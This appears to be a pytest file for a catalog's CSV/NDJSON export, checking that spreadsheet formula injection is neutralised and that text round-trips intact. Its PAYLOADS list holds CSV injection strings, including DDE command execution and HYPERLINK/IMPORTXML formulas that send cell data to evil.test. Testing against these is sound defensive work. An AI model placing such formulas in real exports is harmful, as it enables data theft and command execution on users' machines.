"""What a spreadsheet would run is text in our CSV, and text again when it comes back."""

import csv
import io
from pathlib import Path

import pytest
import servers
from exporting import export, import_
from factories import lamp, load, shop, variant

from catalog import db
from catalog.files import cells
from catalog.settings import Settings
from catalog.writes.inputs import (
    MediaInput,
    SeoInput,
    TranslationInput,
)

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
    "=WEBSERVICE(A1)",
    "==1",
    "= 1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "+",
    "+49 30 1234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "-=1",
    "-20% today",
    "@SUM(1+1)",
    "@mention",
    "@",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'tis the season",
    "'-5",
    "'null",
    "null",
    "-5",
    "-5.25",
    "+5",
    "0.10",
    "a | b",
    "=a | b|c",
    "| a",
    "a |",
    'a "quoted", one;two',
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", [*PAYLOADS, "\t=1+1", "\r=1+1", "\n=1", " =1", "\v@x"])
def test_a_cell_is_inert_and_comes_back(text: str) -> None:
    cell = cells.inert(text)
    number = text.lstrip("+-").replace(".", "", 1).isdecimal()
    assert number or not cell.startswith(STARTS)
    assert cells.plain(cell) == text


@pytest.mark.parametrize("text", ["-5", "-5.25", "+5", "0", "12.50"])
def test_numbers_stay_numbers(text: str) -> None:
    assert cells.inert(text) == text


@pytest.mark.parametrize("items", [["a", "b"], ["a|b", "c"], ["a | b", "c"], ["|"], ["", "x"]])
def test_items_between_bars_come_back(items: list[str]) -> None:
    assert cells.texts(cells.of_texts(items)) == items
    kept = [item for item in items if item]
    assert cells.words(cells.of_words(kept)) == kept


@pytest.mark.usefixtures("clean")
async def test_every_text_column_survives_every_payload(tmp_path: Path, settings: Settings) -> None:
    await load(*shop(), *(_lamp(n, text) for n, text in enumerate(PAYLOADS)))
    lines, table = await export("ndjson"), await export("csv")
    for row in csv.reader(io.StringIO(table.decode())):
        for cell in row:
            assert not cell.startswith(STARTS) or cells.inert(cell) == cell, cell

    await servers.empty()
    await import_(tmp_path / "cells.csv", table, settings)
    assert await export("csv") == table
    assert await export("ndjson") == lines


def _lamp(n: int, text: str) -> object:
    """With the text wherever a text may be."""
    return lamp(
        f"lamp-{n:02}",
        external_id=f"{text} {n}",
        name=text,
        description=text.replace("&", "and").replace('"', ""),
        tags=(text, "plain"),
        tax_class=text,
        seo=SeoInput(title=text, description=text),
        metadata={"note": text},
        private_metadata={"note": text},
        media=(MediaInput(url=f"/{n}-a.svg"), MediaInput(url=f"/{n}-b.svg", alt=text)),
        attributes={"material": {"en": text, "de": text}},
        translations={"de": TranslationInput(name=text, description="x", seo=SeoInput(title=text))},
        variants=(
            variant(
                f"{text} {n}",
                "red",
                external_id=f"{text} v{n}",
                barcode=f"{text} b{n}",
                name=text,
                metadata={"note": text},
                private_metadata={"note": text},
                translations={"de": TranslationInput(name=text)},
            ),
        ),
    )


@pytest.mark.usefixtures("clean")
async def test_every_text_of_what_products_refer_to_survives_too(
    tmp_path: Path, settings: Settings
) -> None:
    nouns = [record for n, text in enumerate(PAYLOADS) for record in _nouns(n, text)]
    await load(*shop(), *nouns)
    lines, table = await export("ndjson"), await export("csv")
    for row in csv.reader(io.StringIO(table.decode())):
        assert [c for c in row if c.startswith(STARTS) and cells.inert(c) != c] == []

    await servers.empty()
    await import_(tmp_path / "cells.csv", table, settings)
    assert await export("csv") == table
    assert await export("ndjson") == lines


def _nouns(n: int, text: str) -> list[dict[str, object]]:
    """One of each, with the text wherever a text may be."""
    page = {
        "external_id": f"{text} {n}",
        "name": text,
        "description": text.replace("&", "and").replace('"', ""),
        "metadata": {"note": text},
        "translations": {"de": {"name": text, "description": "x", "seo": {"title": text}}},
    }
    shown = page | {
        "seo": {"title": text, "description": text},
        "image": {"url": f"/{n}.svg", "alt": text},
    }
    sold = {"default_currency": "EUR", "default_locale": "en"}
    option = {"code": "one", "label": text, "swatch": text, "translations": {"de": {"name": text}}}
    named = {"external_id": f"{text} {n}", "name": text}
    told = {"translations": {"de": {"name": text}}}
    return [
        {"record": "channel", "code": f"channel-{n}", **named, **sold},
        {"record": "location", "code": f"location-{n}", **named},
        {"record": "attribute", "code": f"pick-{n}", "kind": "select", "options": [option]}
        | {"unit": text, **named, **told},
        {"record": "type", "code": f"type-{n}", **named},
        {"record": "brand", "slug": f"brand-{n}", **page}
        | {"translations": {"de": {"name": text, "description": "x"}}},
        {"record": "category", "slug": f"category-{n}", **shown},
        {"record": "collection", "slug": f"collection-{n}", **shown},
    ]


@pytest.mark.usefixtures("clean")
async def test_negative_stock_survives(tmp_path: Path, settings: Settings) -> None:
    sold = {"location": "main", "on_hand": -3}
    await load(*shop(), lamp(variants=(variant("a", "red", stock=(sold,)),)))
    table = await export("csv")
    assert b",-3," in table
    await servers.empty()
    await import_(tmp_path / "stock.csv", table, settings)
    (row,) = await db.fetch("SELECT on_hand FROM stock_level")
    assert row["on_hand"] == -3
